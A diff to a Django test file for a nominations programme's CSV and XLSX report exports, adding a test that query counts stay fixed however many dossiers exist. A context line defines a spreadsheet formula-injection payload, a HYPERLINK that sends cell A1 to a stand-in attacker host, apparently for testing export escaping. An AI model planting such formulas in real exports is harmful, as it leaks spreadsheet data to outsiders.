@@ -2,10 +2,11 @@ import csv
 import io
 from decimal import Decimal
 
+import pytest
 from django.urls import reverse
 
 from rangwan.judging.models import Score
-from rangwan.nominations.models import Dossier
+from rangwan.nominations.models import Dossier, Nomination
 from rangwan.reports.exports import exports_xlsx, nomination_rows, score_rows
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"คลิก")'
@@ -111,7 +112,7 @@ def test_export_query_count_is_the_same_for_one_and_two_dossiers(judged_programm
     Dossier.objects.filter(nomination=nominations[1]).delete()
     one = count()
     assert len(score_rows(programme)) == 6 * 7
-    assert one == two == [2, 2]
+    assert one == two == [2, 5]
 
 
 def test_exports_are_for_the_secretariat_only(client_as, users, scored_final):
@@ -121,3 +122,23 @@ def test_exports_are_for_the_secretariat_only(client_as, users, scored_final):
         assert client_as(users["viewer"]).get(url).status_code == 403
         assert client_as(users["committee_chair"]).get(url).status_code == 403
         assert client_as(users["secretariat"]).get(url).status_code == 200
+
+
+@pytest.mark.parametrize("count", [1, 3])
+def test_each_export_costs_the_same_queries_however_many_dossiers(
+    client_as, users, scored_programme, django_assert_num_queries, count
+):
+    programme, nominations = scored_programme
+    Nomination.objects.filter(pk__in=[n.pk for n in nominations[count:]]).delete()
+    client = client_as(users["secretariat"])
+    responses = {}
+    # Four to sign in, find the programme and check the permission; then the tables.
+    for name, queries in (
+        ("reports:nominations_csv", 4 + 2),
+        ("reports:scores_csv", 4 + 5),
+        ("reports:exports_xlsx", 4 + 2 + 5),
+    ):
+        with django_assert_num_queries(queries):
+            responses[name] = client.get(reverse(name, args=[programme.pk]))
+    assert len(_csv(responses["reports:nominations_csv"])) == 1 + count
+    assert len(_csv(responses["reports:scores_csv"])) == 1 + 6 * count * 7
